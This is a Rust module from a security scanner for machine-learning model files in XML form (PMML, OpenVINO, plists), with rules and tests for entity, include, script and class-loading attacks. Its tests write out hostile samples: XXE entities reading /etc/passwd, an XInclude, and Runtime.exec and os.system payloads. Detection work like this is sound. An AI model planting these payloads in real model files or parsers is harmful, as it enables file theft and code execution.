//! XML: PMML, OpenVINO's intermediate representation, property lists. Entities, includes and scripts are what
//! an XML reader can be made to do; paths and extensions what the model's own loader can.

use haris_domain::Severity;

use crate::context::Context;
use crate::face::Face;
use crate::finding::Verdict;
use crate::format::{Claim, Format};
use crate::part::Part;
use crate::read::text::{self, shown};
use crate::read::xml::{self, Event, Reader};
use crate::refs;
use crate::unread::Unread;

use super::onnx;
use super::safetensors::{metadata_face, payload};

static ENTITY: Face = Face::new(
    "artifact.xml-entity",
    Severity::Critical,
    Verdict::Blocked,
    "XML that defines entities",
    "A reader that resolves entities opens the files or addresses they name, or multiplies them until memory is \
     full.",
    "Reject the file; models in XML define no entities.",
    refs!["CWE-611", "CWE-776", "CVE-2022-25849"],
);
static INCLUDE: Face = Face::new(
    "artifact.xml-include",
    Severity::High,
    Verdict::Blocked,
    "XML that includes or executes",
    "An include, a style sheet or a script element makes a reader open another file or run code.",
    "Reject the file.",
    refs!["CWE-611", "CWE-94", "MITRE-ATLAS:AML.T0011"],
);
static DOCTYPE: Face = Face::new(
    "artifact.xml-external-type",
    Severity::Medium,
    Verdict::Review,
    "XML with an external document type",
    "A reader that validates fetches the document type from the address given.",
    "Have the file written anew without it.",
    refs!["CWE-611"],
);
static FUNCTION: Face = Face::new(
    "artifact.pmml-foreign-function",
    Severity::Medium,
    Verdict::Review,
    "PMML that calls a class by name",
    "`Apply` names a function that is none of PMML's: an evaluator takes it for the name of a class to load.",
    "Ask which class it is, and vet it as code.",
    refs!["CWE-470", "MITRE-ATLAS:AML.T0011.000"],
);

/// The format.
pub(crate) struct Xml;

impl Format for Xml {
    fn name(&self) -> &'static str {
        "xml"
    }

    fn rules(&self) -> &'static [&'static Face] {
        static RULES: std::sync::LazyLock<Vec<&'static Face>> = std::sync::LazyLock::new(|| {
            vec![&ENTITY, &INCLUDE, &DOCTYPE, &FUNCTION, &onnx::CUSTOM, &onnx::PATH, metadata_face()]
        });
        &RULES
    }

    fn claim(&self, part: &Part) -> Claim {
        if !text::is_text(&part.head) || !xml::begins(&part.head) {
            return Claim::No;
        }
        // HTML and prose that begins with a tag are documents.
        let root = xml::root_name(&part.head).unwrap_or_default();
        if root.eq_ignore_ascii_case("html")
            || matches!(root.as_str(), "div" | "p" | "h1" | "center" | "img" | "br" | "details")
        {
            return Claim::No;
        }
        // Without a prologue, and of no root that models have, it is XML only if it ends like it.
        let known = matches!(root.as_str(), "PMML" | "net" | "plist" | "java" | "svg");
        let prologue = part.head.windows(5).take(8).any(|window| window == b"<?xml") || part.has_at(0, b"<!");
        let tail = part.source.some(part.source.len().saturating_sub(64), 64).unwrap_or_default();
        let closes = part.head.windows(2).any(|pair| pair == b"</" || pair == b"/>");
        if !known && !prologue && (!closes || tail.trim_ascii_end().last() != Some(&b'>')) {
            return Claim::No;
        }
        Claim::Perhaps
    }

    fn scan(&self, part: &Part, context: &mut Context<'_>) -> Result<(), Unread> {
        let budget = context.budget().clone();
        let mut reader = Reader::new(&part.source, &budget)?;
        let (mut is_pmml, mut is_net) = (false, false);
        let mut depth = 0u64;
        let mut open: Vec<String> = Vec::new();
        loop {
            let at = reader.offset();
            let Some(event) = reader.next()? else { break };
            match event {
                Event::Doctype(text) => doctype(&text, at, context),
                Event::Instruction(text) => {
                    if text.starts_with("<?xml-stylesheet") || text.starts_with("<?php") {
                        context.find_at(&INCLUDE, at, format!("`{}`", shown(&text, 160)));
                    }
                }
                Event::Start { name, prefix, attributes } => {
                    if depth == 0 {
                        is_pmml = name == "PMML";
                        is_net = name == "net";
                        context.name_it(if is_pmml {
                            "pmml"
                        } else if is_net {
                            "openvino"
                        } else {
                            "xml"
                        });
                    }
                    element(&name, &prefix, &attributes, at, is_pmml, is_net, context);
                    depth += 1;
                    open.push(name);
                    if open.len() > 2000 {
                        return Err(Unread::Limit(crate::Limit::Within("nesting in XML")));
                    }
                }
                Event::End => {
                    depth = depth.saturating_sub(1);
                    open.pop();
                }
                Event::Text(text) => {
                    let inside = open.last().map_or("", String::as_str);
                    // Tables of numbers are not read as programs.
                    let words = text.bytes().filter(u8::is_ascii_alphabetic).count();
                    if words > 8
                        && (text.contains('(') || text.contains('<') || text.contains('|'))
                        && let Some(why) = payload(&text)
                    {
                        context
                            .find_at(metadata_face(), at, format!("text of `{}`: {why}", shown(inside, 60)))
                            .explain(&shown(&text, 600));
                    }
                }
            }
        }
        if depth > 0 {
            return Err(Unread::malformed("end of an XML element", part.source.len()));
        }
        if is_net {
            weights(part, context);
        }
        Ok(())
    }
}

fn doctype(text: &str, at: u64, context: &mut Context<'_>) {
    let upper = text.to_ascii_uppercase();
    if upper.contains("<!ENTITY") || upper.contains("%") && upper.contains('[') {
        context.find_at(&ENTITY, at, format!("`{}`", shown(text, 200)));
    } else if upper.contains("SYSTEM")
        || (upper.contains("PUBLIC") && !upper.contains("APPLE.COM/DTD") && !upper.contains("W3.ORG"))
    {
        context.find_at(&DOCTYPE, at, format!("`{}`", shown(text, 200)));
    }
}

fn element(
    name: &str,
    prefix: &str,
    attributes: &[(String, String)],
    at: u64,
    is_pmml: bool,
    is_net: bool,
    context: &mut Context<'_>,
) {
    let attribute = |wanted: &str| attributes.iter().find(|(name, _)| name == wanted).map(|(_, value)| value.as_str());
    let lower = name.to_ascii_lowercase();
    let includes = lower == "include" && (prefix.starts_with("xi") || attribute("href").is_some());
    // Interfaces of toolkits are described in `object`s as well; markup's have an address or a class.
    let embeds =
        lower == "object" && ["data", "classid", "codebase", "archive"].iter().any(|name| attribute(name).is_some());
    let script = (embeds || matches!(lower.as_str(), "script" | "iframe" | "applet" | "stylesheet" | "transform"))
        && !(is_net && lower == "transform")
        && !is_pmml
        || lower == "script";
    if includes || script {
        context.find_at(&INCLUDE, at, format!("element `{}`", shown(name, 80)));
    }
    // Objects that Java's and .NET's XML readers make.
    if matches!(lower.as_str(), "void" | "java" | "objectdataprovider" | "resourcedictionary")
        && (attribute("class").is_some()
            || attribute("method").is_some()
            || attribute("MethodName").is_some()
            || attribute("version").is_some() && lower == "java")
    {
        context.find_at(&INCLUDE, at, format!("element `{}` makes objects", shown(name, 80)));
    }
    if is_pmml && name == "Apply" {
        let function = attribute("function").unwrap_or("");
        if function.contains('.') || function.contains(':') && !function.starts_with("x-") {
            let grave =
                ["java.lang.", "javax.script", "Runtime", "ProcessBuilder", "ScriptEngine", "groovy", "nashorn"]
                    .iter()
                    .any(|part| function.contains(part));
            context.find_at(if grave { &INCLUDE } else { &FUNCTION }, at, format!("`{}`", shown(function, 120)));
        }
    }
    if is_net && name == "layer" {
        let version = attribute("version").unwrap_or("opset1");
        let known = version.starts_with("opset")
            || matches!(
                version,
                "experimental" | "util" | "ie_internal_opset" | "type_relaxed_opset" | "gpu_opset" | "SnippetsOpset"
            )
            || version.is_empty();
        if !known {
            context.find_at(
                &onnx::CUSTOM,
                at,
                format!("layer `{}` of `{}`", shown(attribute("type").unwrap_or(""), 80), shown(version, 80)),
            );
        }
    }
    for (key, value) in attributes {
        let location = matches!(
            key.as_str(),
            "path" | "file" | "weights" | "weights_path" | "library" | "extension" | "location" | "source"
        );
        if is_net
            && name != "net"
            && location
            && onnx::strays(value).is_some()
            && !matches!(name, "weights_path" | "model_path")
        {
            context.find_at(&onnx::PATH, at, format!("`{key}` of `{}` is `{}`", shown(name, 60), shown(value, 120)));
        }
        if value.len() > 12
            && value.contains('(')
            && value.len() < 100_000
            && let Some(why) = payload(value)
        {
            context
                .find_at(metadata_face(), at, format!("`{}` of `{}`: {why}", shown(key, 60), shown(name, 60)))
                .explain(&shown(value, 600));
        }
    }
}

/// An OpenVINO model's constants lie in the file beside it.
fn weights(part: &Part, context: &mut Context<'_>) {
    let (Some(name), Some(members)) = (part.name.as_deref(), &part.members) else { return };
    let Some(stem) = name.strip_suffix(".xml") else { return };
    if members.has(&format!("{stem}.bin")) || members.list().len() == 1 {
        return;
    }
    let _ = context;
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::testing::{rules_of, scan, verdict_of};

    fn pmml(inner: &str) -> Vec<u8> {
        format!("<?xml version=\"1.0\"?><PMML xmlns=\"http://www.dmg.org/PMML-4_4\" version=\"4.4\"><Header copyright=\"x\"><Extension name=\"a\" value=\"b\"/></Header>{inner}</PMML>").into_bytes()
    }

    #[test]
    fn honest_models_are_clean() {
        assert_eq!(
            verdict_of(pmml("<TreeModel functionName=\"classification\"><Node score=\"1\"><True/></Node></TreeModel>")),
            Verdict::Clean
        );
        assert_eq!(scan(pmml("")).format, "pmml");
        let net = "<?xml version=\"1.0\"?><net name=\"m\" version=\"11\"><layers><layer id=\"0\" name=\"x\" type=\"Parameter\" version=\"opset1\"><data shape=\"1,4\"/></layer></layers></net>";
        assert_eq!(verdict_of(net.as_bytes().to_vec()), Verdict::Clean);
        assert_eq!(scan(net.as_bytes().to_vec()).format, "openvino");
    }

    #[test]
    fn hostile_models_are_found() {
        for (bytes, rule) in [
            (
                b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><PMML>&e;</PMML>"
                    .to_vec(),
                "artifact.xml-entity",
            ),
            (
                b"<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://a.example/x.dtd\"> %p;]><PMML/>".to_vec(),
                "artifact.xml-entity",
            ),
            (b"<!DOCTYPE x SYSTEM \"http://a.example/x.dtd\"><PMML/>".to_vec(), "artifact.xml-external-type"),
            (
                pmml("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>"),
                "artifact.xml-include",
            ),
            (
                pmml("<Extension name=\"s\"><script>java.lang.Runtime.getRuntime().exec('id')</script></Extension>"),
                "artifact.xml-include",
            ),
            (pmml("<Extension name=\"s\" value=\"__import__('os').system('id')\"/>"), "artifact.metadata-payload"),
            (pmml("<Apply function=\"com.attacker.Function\"/>"), "artifact.pmml-foreign-function"),
            (pmml("<Apply function=\"java.lang.Runtime.exec\"/>"), "artifact.xml-include"),
            (
                b"<net version=\"11\"><layers><layer id=\"0\" type=\"Evil\" version=\"extension\"/></layers></net>"
                    .to_vec(),
                "artifact.custom-operator",
            ),
        ] {
            assert!(rules_of(bytes.clone()).contains(&rule.to_owned()), "{rule}: {:?}", rules_of(bytes));
        }
        let wide: Vec<u8> =
            "\u{feff}<!DOCTYPE x [<!ENTITY e \"x\">]><PMML/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(verdict_of(wide), Verdict::Blocked);
        assert_eq!(verdict_of(b"<PMML><a>".to_vec()), Verdict::Incomplete);
    }
}
